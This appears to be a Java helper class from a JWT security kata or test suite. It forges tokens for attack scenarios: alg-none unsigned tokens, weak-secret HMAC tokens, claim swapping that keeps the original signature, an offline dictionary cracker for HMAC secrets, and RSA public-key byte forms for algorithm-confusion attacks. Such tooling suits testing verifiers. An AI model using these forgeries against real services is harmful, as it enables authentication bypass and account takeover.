package dev.rampart.kata.jwt;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.util.Base64URL;
import com.nimbusds.jose.util.JSONObjectUtils;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.MessageDigest;
import java.text.ParseException;
import java.time.Duration;
import java.time.Instant;
import java.util.Arrays;
import java.util.Base64;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/**
 * The attacker's (and the partner's) JWT workbench: claims that pass every check by default,
 * and tokens signed any way at all — including the ways a careful library refuses to, which is
 * why HMAC and unsigned tokens are put together by hand here.
 */
final class Forge {

    static final String ISSUER = "https://auth.example.com";
    static final String AUDIENCE = "https://api.example.com";

    private Forge() {
    }

    /** An access token's claims, valid for ten more minutes: every attack changes one thing. */
    static JWTClaimsSet.Builder accessClaims(String subject, Instant now) {
        return new JWTClaimsSet.Builder()
                .issuer(ISSUER)
                .audience(AUDIENCE)
                .subject(subject)
                .issueTime(Date.from(now))
                .expirationTime(Date.from(now.plus(Duration.ofMinutes(10))))
                .jwtID(UUID.randomUUID().toString())
                .claim("token_use", "access");
    }

    static String rs256(RSAKey key, String keyId, JWTClaimsSet claims) {
        try {
            var jwt = new SignedJWT(new JWSHeader.Builder(JWSAlgorithm.RS256).keyID(keyId).build(), claims);
            jwt.sign(new RSASSASigner(key));
            return jwt.serialize();
        } catch (JOSEException e) {
            throw new IllegalStateException(e);
        }
    }

    /** An HMAC-signed token with any secret, however short: what a careless partner or an attacker makes. */
    static String hmac(String algorithm, byte[] secret, String keyId, JWTClaimsSet claims) {
        var header = new LinkedHashMap<String, Object>();
        header.put("alg", algorithm);
        header.put("kid", keyId);
        var signedPart = encode(header) + "." + encode(claims);
        return signedPart + "." + Base64URL.encode(mac(algorithm, secret, signedPart));
    }

    /** A token with this alg header and an empty signature. */
    static String unsigned(String algorithm, JWTClaimsSet claims) {
        var header = new LinkedHashMap<String, Object>();
        header.put("alg", algorithm);
        header.put("typ", "JWT");
        return encode(header) + "." + encode(claims) + ".";
    }

    /** A token with this alg header, naming this key, and whatever bytes the attacker puts in the signature. */
    static String withSignature(String algorithm, String keyId, JWTClaimsSet claims, byte[] signature) {
        var header = new LinkedHashMap<String, Object>();
        header.put("alg", algorithm);
        header.put("kid", keyId);
        return encode(header) + "." + encode(claims) + "." + Base64URL.encode(signature);
    }

    /** The same token with other claims and the original signature. */
    static String withClaims(String token, JWTClaimsSet claims) {
        var parts = token.split("\\.", -1);
        return parts[0] + "." + encode(claims) + "." + parts[2];
    }

    /** The claims a token carries, read without checking anything (as anyone can). */
    static JWTClaimsSet claimsOf(String token) {
        try {
            return JWTClaimsSet.parse(new Base64URL(token.split("\\.", -1)[1]).decodeToString());
        } catch (ParseException e) {
            throw new IllegalStateException(e);
        }
    }

    /** Offline dictionary attack on an HMAC-signed token: the secret that reproduces its signature. */
    static Optional<byte[]> crack(String token, List<String> dictionary) {
        var parts = token.split("\\.", -1);
        try {
            var algorithm = JSONObjectUtils.getString(JSONObjectUtils.parse(new Base64URL(parts[0]).decodeToString()), "alg");
            var signature = new Base64URL(parts[2]).decode();
            var signedPart = parts[0] + "." + parts[1];
            return dictionary.stream()
                    .map(word -> word.getBytes(StandardCharsets.UTF_8))
                    .filter(secret -> MessageDigest.isEqual(mac(algorithm, secret, signedPart), signature))
                    .findFirst();
        } catch (ParseException e) {
            return Optional.empty();
        }
    }

    /** A public key as the PEM file a service publishes. */
    static String pem(RSAKey key) {
        try {
            var body = Base64.getMimeEncoder(64, "\n".getBytes(StandardCharsets.US_ASCII))
                    .encodeToString(key.toRSAPublicKey().getEncoded());
            return "-----BEGIN PUBLIC KEY-----\n" + body + "\n-----END PUBLIC KEY-----\n";
        } catch (JOSEException e) {
            throw new IllegalStateException(e);
        }
    }

    /**
     * Every form in which a verifier might hold an RSA public key as bytes, by name: the attacker
     * does not know which one the server turns into an HMAC secret, so tries them all.
     */
    static Map<String, byte[]> publicKeyForms(RSAKey key) {
        try {
            var pem = pem(key);
            var der = key.toRSAPublicKey().getEncoded();
            var forms = new LinkedHashMap<String, byte[]>();
            forms.put("the PEM file", pem.getBytes(StandardCharsets.US_ASCII));
            forms.put("the PEM text without its last newline", pem.strip().getBytes(StandardCharsets.US_ASCII));
            forms.put("the X.509 DER encoding (PublicKey.getEncoded())", der);
            forms.put("the Base64 of the DER encoding", Base64.getEncoder().encode(der));
            forms.put("the PKCS#1 DER encoding", pkcs1(der));
            forms.put("the JWK", key.toPublicJWK().toJSONString().getBytes(StandardCharsets.UTF_8));
            forms.put("the modulus", key.getModulus().decode());
            return forms;
        } catch (JOSEException e) {
            throw new IllegalStateException(e);
        }
    }

    /**
     * The PKCS#1 RSAPublicKey inside an X.509 SubjectPublicKeyInfo: the content of its BIT STRING,
     * which follows the AlgorithmIdentifier (DER: tag, length, content; the BIT STRING's first
     * content byte counts unused bits and is 0 here).
     */
    private static byte[] pkcs1(byte[] spki) {
        int at = headerLength(spki, 0);                 // inside the outer SEQUENCE
        at += headerLength(spki, at) + contentLength(spki, at); // past the AlgorithmIdentifier
        at += headerLength(spki, at) + 1;               // into the BIT STRING, past its unused-bits byte
        return Arrays.copyOfRange(spki, at, spki.length);
    }

    private static int headerLength(byte[] der, int at) {
        int first = der[at + 1] & 0xff;
        return first < 0x80 ? 2 : 2 + (first & 0x7f);
    }

    private static int contentLength(byte[] der, int at) {
        int first = der[at + 1] & 0xff;
        if (first < 0x80) {
            return first;
        }
        int length = 0;
        for (int i = 0; i < (first & 0x7f); i++) {
            length = length << 8 | der[at + 2 + i] & 0xff;
        }
        return length;
    }

    private static String encode(Map<String, Object> json) {
        return Base64URL.encode(JSONObjectUtils.toJSONString(json)).toString();
    }

    private static String encode(JWTClaimsSet claims) {
        return encode(claims.toJSONObject());
    }

    private static byte[] mac(String algorithm, byte[] secret, String signedPart) {
        try {
            var mac = Mac.getInstance("HmacSHA" + algorithm.substring(2));
            mac.init(new SecretKeySpec(secret, mac.getAlgorithm()));
            return mac.doFinal(signedPart.getBytes(StandardCharsets.US_ASCII));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }
}
